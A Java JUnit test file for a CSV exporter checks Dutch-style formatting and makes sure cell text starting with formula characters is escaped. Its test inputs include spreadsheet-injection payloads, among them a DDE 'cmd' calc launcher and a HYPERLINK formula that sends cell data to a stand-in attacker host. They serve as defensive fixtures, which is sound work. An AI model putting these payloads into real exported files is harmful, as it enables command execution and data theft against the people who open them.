package org.supplierescalation.overview.csv;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.supplierescalation.overview.Column;
import org.supplierescalation.overview.Table;

class CsvTablesTest {

  @Test
  void aDutchSpreadsheetGetsSemicolonsCommasAndItsOwnDates() throws IOException {
    String file =
        written(
            new Table<>(
                "proef",
                List.of(
                    new Column.Text<>("Naam", row -> "Café “De Zon”; bar"),
                    new Column.Day<>("Dag", row -> LocalDate.of(2026, 3, 1)),
                    new Column.Moment<>("Moment", row -> LocalDateTime.of(2026, 3, 1, 9, 5)),
                    new Column.Money<>("Bedrag", row -> new BigDecimal("-1234567.5")),
                    new Column.Count<>("Aantal", row -> -3L),
                    new Column.Text<>("Leeg", row -> null)),
                Stream.of("een rij")));

    assertThat(file)
        .isEqualTo(
            "\uFEFFNaam;Dag;Moment;Bedrag;Aantal;Leeg\r\n"
                + "\"Café “De Zon”; bar\";01-03-2026;01-03-2026 09:05;-1234567,50;-3;\r\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+31 30 000 00 00",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://kwaad.example?x=\"&A1;\"klik\")"
      })
  void noTextBecomesAFormula(String text) throws IOException {
    assertThat(readBack(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Planning ligt stil",
        "a=b",
        "1-2",
        "'=1+1",
        "regel\n=twee",
        "a;\"b\"",
        "é",
        "€ 5"
      })
  void otherTextStaysAsItIs(String text) throws IOException {
    assertThat(readBack(text)).isEqualTo(text);
  }

  private static String readBack(String text) throws IOException {
    String file =
        written(
            new Table<>("proef", List.of(new Column.Text<>("Kop", row -> row)), Stream.of(text)));
    List<CsvRecord> rows =
        CsvReader.builder().fieldSeparator(';').ofCsvRecord(file.substring(1)).stream().toList();
    assertThat(rows).hasSize(2);
    assertThat(rows.get(1).getFieldCount()).isEqualTo(1);
    return rows.get(1).getField(0);
  }

  private static <R> String written(Table<R> table) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new CsvTables().write(table, out);
    return out.toString(StandardCharsets.UTF_8);
  }
}
